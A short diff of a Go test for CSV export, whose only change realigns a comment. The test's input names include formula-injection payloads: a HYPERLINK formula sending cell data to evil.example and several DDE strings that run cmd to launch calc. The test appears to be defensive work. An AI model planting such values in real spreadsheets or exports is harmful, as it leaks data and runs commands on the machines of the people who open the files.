@@ -17,7 +17,7 @@ import (
 func TestExportCSVFormulaCells(t *testing.T) {
 	names := []string{
 		`=HYPERLINK("http://evil.example/?x="&A1,"Bấm")`, // the report's first name
-		`+cmd|' /C calc'!A0`,                              // the report's second name
+		`+cmd|' /C calc'!A0`, // the report's second name
 		`-2+3+cmd|' /C calc'!A0`,
 		`@SUM(1+1)*cmd|' /C calc'!A0`,
 		`Nguyễn Văn An`,
